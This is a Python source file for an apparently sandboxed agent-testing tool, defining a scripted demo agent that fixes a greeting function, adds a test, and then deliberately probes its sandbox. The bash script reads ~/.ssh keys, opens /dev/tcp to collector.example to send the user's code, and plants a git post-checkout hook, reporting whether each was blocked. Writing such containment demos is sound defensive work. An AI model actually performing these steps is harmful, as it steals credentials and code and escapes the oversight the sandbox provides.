"""An agent without a model, for the first look: it works, and it tries what it must not.

It says what it does as JSON lines, as real agents do. It is a shell script, since a shell is all
that every sandbox has.
"""

from __future__ import annotations

import json
from typing import cast

from ags.agents.base import OWN, Heard, Plain, Said, Wish, output
from ags.events import Kind

SCRIPT = r"""
say() { printf '{"kind": "%s", "text": "%s"}\n' "$1" "$2"; sleep 0.3; }
tried() {
    printf '{"kind": "tool_call", "tool": "%s", "input": "%s"}\n' "$1" "$2"
    sleep 0.3
    printf '{"kind": "tool_result", "tool": "%s", "ok": %s, "output": "%s"}\n' "$1" "$3" "$4"
    sleep 0.3
}

if [ -e test_greet.py ]; then
    say message "I was told: @GOAL@"
    tried read greet.py true "$(wc -l < greet.py) lines"
    if grep -q '# Whoever it is' greet.py; then
        say message "There is nothing left that I know to do."
        exit
    fi
    sed -i 's/^def greet(.*/&\n    # Whoever it is, they are called by their name./' greet.py
    tried edit greet.py true "greet() says what it does"
    say message "Done. It is on the same branch."
    exit
fi

say message "I was asked: @GOAL@. First I read the code."
tried read greet.py true "$(wc -l < greet.py) lines"

say message "The greeting forgets the name. I change it and add a test."
sed -i 's/return "Hello!"/return f"Hello, {name}!"/' greet.py
tried edit greet.py true "greet() uses the name"
cat > test_greet.py <<'END'
from greet import greet


def test_the_name_is_in_the_greeting():
    assert greet("Ada") == "Hello, Ada!"
END
tried write test_greet.py true "a new test"
if python3 -c 'from test_greet import *; test_the_name_is_in_the_greeting()' 2>/dev/null; then
    tried run "python3 test" true "passed"
else
    tried run "python3 test" false "failed, or no Python here"
fi

say message "Now what a careless or hijacked agent would try."
if cat ~/.ssh/* >/dev/null 2>&1; then
    tried read "~/.ssh" true "READ YOUR KEYS"
else
    tried read "~/.ssh" false "not there: this home is empty"
fi
answer=$(
    exec 3<>/dev/tcp/collector.example/80 || exit
    printf 'POST /your-code HTTP/1.1\r\nHost: collector.example\r\nContent-Length: 0\r\n\r\n' >&3
    read -r -t 10 line <&3 && echo "$line"
) 2>/dev/null
case $answer in
    '') tried send "your code to collector.example" false "no network" ;;
    *" 403 "*) tried send "your code to collector.example" false "refused by the policy" ;;
    *) tried send "your code to collector.example" true "REACHED THE NETWORK" ;;
esac
if mkdir -p .git/hooks && touch .git/hooks/post-checkout && [ -d /ags/base ]; then
    tried write ".git/hooks" true "into a git folder of its own: your repository's is not here"
else
    tried write ".git/hooks" false "read-only"
fi
say message "Done. The change is on a branch of its own."
"""


class Demo(Plain):
    """Made for the project in `example/`."""

    name = "demo"

    def headless(self, wish: Wish) -> tuple[str, ...]:
        # Inside a JSON string, in a shell string: only what means nothing to either.
        harmless = "".join(c for c in wish.goal if c.isalnum() or c in " .,:;-!?")
        return ("/bin/bash", "-c", SCRIPT.replace("@GOAL@", harmless.strip() or "something"))

    def interactive(self, wish: Wish) -> tuple[str, ...]:
        return self.headless(Wish("look around"))

    def parse(self, line: str) -> Heard:
        try:
            told = json.loads(line)
        except (ValueError, RecursionError):
            return output(line)
        if not isinstance(told, dict) or told.get("kind") not in OWN:
            return output(line)
        return Heard((Said(cast(Kind, told.pop("kind")), told),))
